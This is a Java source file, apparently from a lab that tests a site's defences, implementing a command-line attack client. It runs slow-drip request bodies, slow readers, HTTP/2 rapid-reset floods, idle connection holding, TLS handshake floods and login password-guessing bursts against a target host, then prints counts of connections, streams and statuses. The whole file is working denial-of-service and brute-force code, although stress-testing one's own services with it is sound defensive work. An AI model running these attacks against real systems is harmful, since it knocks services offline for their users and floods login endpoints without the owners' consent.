package dev.tandem.lab.attack;

import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.security.KeyStore;
import java.security.cert.Certificate;
import java.security.cert.CertificateFactory;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.locks.LockSupport;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManagerFactory;

/**
 * One stranger who attacks the site from one address: so many connections, so many requests, so many seconds, then no more. It
 * runs on the lab's client: this class and {@link Http2Connection}, nothing but the JDK, and so no other class of ours.
 *
 * <p>Arguments: the authorities' file, the site's name, its address, port, the stranger's address, seconds, then one of
 *
 * <ul>
 *   <li>{@code bodies CONNECTIONS STREAMS FIRST EACH_MS}: bodies of which FIRST bytes come, and then one byte each EACH_MS
 *   <li>{@code readers CONNECTIONS STREAMS PATH EACH_MS}: answers of which one byte is taken each EACH_MS
 *   <li>{@code resets CONNECTIONS STREAMS}: requests that are taken back at once, as fast as the connection takes them
 *   <li>{@code idle CONNECTIONS}: connections on which nothing is asked
 *   <li>{@code handshakes CONNECTIONS}: connections that are closed as soon as they are secure, eight at a time
 *   <li>{@code guesses PER_SECOND PATH}: wrong passwords
 * </ul>
 *
 * <p>Standard output, at the end: one line of {@code name=number}: connections that were {@code taken} or {@code refused}, streams
 * that were {@code begun}, those {@code held} at the end, the bytes {@code received}, and the answers by status.
 */
final class AttackProgram {
    private static final int BODY = 1_000_000;
    private static final int USUAL_WINDOW = 65_535;
    private static final int HANDSHAKES_AT_A_TIME = 8;

    private final SSLContext secure;
    private final String host;
    private final InetSocketAddress to;
    private final InetAddress source;
    private final long end;
    private final Map<String, AtomicInteger> counts = new ConcurrentHashMap<>();
    private final List<Http2Connection> connections = new ArrayList<>();

    private AttackProgram(String[] arguments) throws IOException, GeneralSecurityException {
        this.secure = trusting(Path.of(arguments[0]));
        this.host = arguments[1];
        this.to = new InetSocketAddress(InetAddress.getByName(arguments[2]), Integer.parseInt(arguments[3]));
        this.source = InetAddress.getByName(arguments[4]);
        this.end = System.nanoTime() + Long.parseLong(arguments[5]) * 1_000_000_000L;
    }

    public static void main(String[] arguments) throws Exception {
        AttackProgram program = new AttackProgram(arguments);
        program.attack(List.of(arguments).subList(6, arguments.length));
        program.report();
        System.exit(0);
    }

    private void attack(List<String> words) throws InterruptedException {
        switch (words.getFirst()) {
            case "bodies" -> bodies(number(words, 1), number(words, 2), number(words, 3), number(words, 4));
            case "readers" -> readers(number(words, 1), number(words, 2), words.get(3), number(words, 4));
            case "resets" -> resets(number(words, 1), number(words, 2));
            case "idle" -> idle(number(words, 1));
            case "handshakes" -> handshakes(number(words, 1));
            case "guesses" -> guesses(number(words, 1), words.get(2));
            default -> throw new IllegalArgumentException("unknown attack: " + words);
        }
    }

    private static int number(List<String> words, int index) {
        return Integer.parseInt(words.get(index));
    }

    private void bodies(int count, int streams, int first, int each) {
        for (int index = 0; index < count && going(); index++) {
            connect(USUAL_WINDOW).ifPresent(connection -> begin(connection, streams, "POST", "/api/users", first));
        }
        drip(each, (connection, stream) -> connection.data(stream, 1));
    }

    private void readers(int count, int streams, String path, int each) {
        for (int index = 0; index < count && going(); index++) {
            connect(1).ifPresent(connection -> begin(connection, streams, "GET", path, 0));
        }
        drip(each, (connection, stream) -> connection.takeMore(stream, 1));
    }

    private void begin(Http2Connection connection, int streams, String method, String path, int first) {
        try {
            for (int index = 0; index < streams; index++) {
                int stream = connection.begin(method, host, path, first > 0 ? BODY : 0);
                add("begun", 1);
                if (first > 0) {
                    connection.data(stream, first);
                }
            }
            connection.flush();
        } catch (IOException e) {
            connection.close();
        }
    }

    /** What is done to each open stream again and again. */
    private interface Drop {
        void fall(Http2Connection connection, int stream) throws IOException;
    }

    private void drip(int each, Drop drop) {
        while (going()) {
            pause(each);
            for (Http2Connection connection : connections) {
                try {
                    for (int stream : connection.open.keySet()) {
                        drop.fall(connection, stream);
                    }
                    connection.flush();
                } catch (IOException e) {
                    connection.close();
                }
            }
        }
    }

    private void resets(int count, int streams) {
        for (int index = 0; index < count && going(); index++) {
            connect(USUAL_WINDOW).ifPresentOrElse(connection -> reset(connection, streams), () -> pause(20));
        }
    }

    private void reset(Http2Connection connection, int streams) {
        try {
            for (int index = 0; index < streams && going() && !connection.isClosed(); index++) {
                connection.reset(connection.begin("GET", host, "/api/articles", 0));
                add("begun", 1);
            }
            connection.flush();
        } catch (IOException e) {
            // The balancer has had enough of it.
        }
        connection.close();
    }

    private void idle(int count) {
        for (int index = 0; index < count && going(); index++) {
            connect(USUAL_WINDOW);
        }
        while (going()) {
            pause(100);
        }
    }

    private void handshakes(int count) throws InterruptedException {
        AtomicInteger left = new AtomicInteger(count);
        List<Thread> threads = new ArrayList<>();
        for (int index = 0; index < HANDSHAKES_AT_A_TIME; index++) {
            threads.add(Thread.ofVirtual().start(() -> {
                while (going() && left.getAndDecrement() > 0) {
                    shakeHands();
                }
            }));
        }
        for (Thread thread : threads) {
            thread.join();
        }
    }

    private void shakeHands() {
        try (SSLSocket socket = Http2Connection.secured(secure, from(), to, host, "http/1.1")) {
            add(socket.isConnected() ? "taken" : "refused", 1);
        } catch (IOException e) {
            add("refused", 1);
        }
    }

    private void guesses(int perSecond, String path) {
        long next = System.nanoTime();
        int count = 0;
        while (going()) {
            String name = "somebody" + count++;
            Thread.ofVirtual().start(() -> guess(path, name));
            next += 1_000_000_000L / perSecond;
            LockSupport.parkNanos(next - System.nanoTime());
        }
    }

    private void guess(String path, String name) {
        String body = "{\"user\":{\"email\":\"" + name + "@example.org\",\"password\":\"wrong-password\"}}";
        byte[] request = ("POST " + path + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n"
                        + "Content-Type: application/json\r\nContent-Length: " + body.length() + "\r\n\r\n" + body)
                .getBytes(StandardCharsets.US_ASCII);
        add("begun", 1);
        try (SSLSocket socket = Http2Connection.secured(secure, from(), to, host, "http/1.1")) {
            socket.getOutputStream().write(request);
            String answer = new String(socket.getInputStream().readNBytes(12), StandardCharsets.US_ASCII);
            add("status-" + (answer.length() == 12 ? answer.substring(9) : "none"), 1);
        } catch (IOException e) {
            add("refused", 1);
        }
    }

    private Optional<Http2Connection> connect(int window) {
        try {
            Http2Connection connection = Http2Connection.to(secure, from(), to, host, window);
            connections.add(connection);
            add("taken", 1);
            return Optional.of(connection);
        } catch (IOException e) {
            add("refused", 1);
            return Optional.empty();
        }
    }

    private InetSocketAddress from() {
        return new InetSocketAddress(source, 0);
    }

    private boolean going() {
        return System.nanoTime() < end;
    }

    private static void pause(int milliseconds) {
        LockSupport.parkNanos(milliseconds * 1_000_000L);
    }

    private void add(String what, int count) {
        counts.computeIfAbsent(what, _ -> new AtomicInteger()).addAndGet(count);
    }

    private void report() {
        for (Http2Connection connection : connections) {
            add("received", connection.received.get());
            connection.answers.forEach((what, count) -> add("status-" + what, count.get()));
            if (!connection.isClosed()) {
                add("open", 1);
                add("held", connection.open.size());
            }
        }
        StringBuilder line = new StringBuilder();
        new TreeMap<>(counts)
                .forEach((name, count) ->
                        line.append(name).append('=').append(count).append(' '));
        System.out.println(line.toString().strip());
    }

    /** Trusts what the authorities in the file have signed, and nobody else. */
    private static SSLContext trusting(Path authorities) throws IOException, GeneralSecurityException {
        KeyStore trusted = KeyStore.getInstance(KeyStore.getDefaultType());
        trusted.load(null, null);
        try (InputStream pem = Files.newInputStream(authorities)) {
            for (Certificate authority : CertificateFactory.getInstance("X.509").generateCertificates(pem)) {
                trusted.setCertificateEntry("authority " + trusted.size(), authority);
            }
        }
        TrustManagerFactory managers = TrustManagerFactory.getInstance(TrustManagerFactory.getDefaultAlgorithm());
        managers.init(trusted);
        SSLContext context = SSLContext.getInstance("TLS");
        context.init(null, managers.getTrustManagers(), null);
        return context;
    }
}
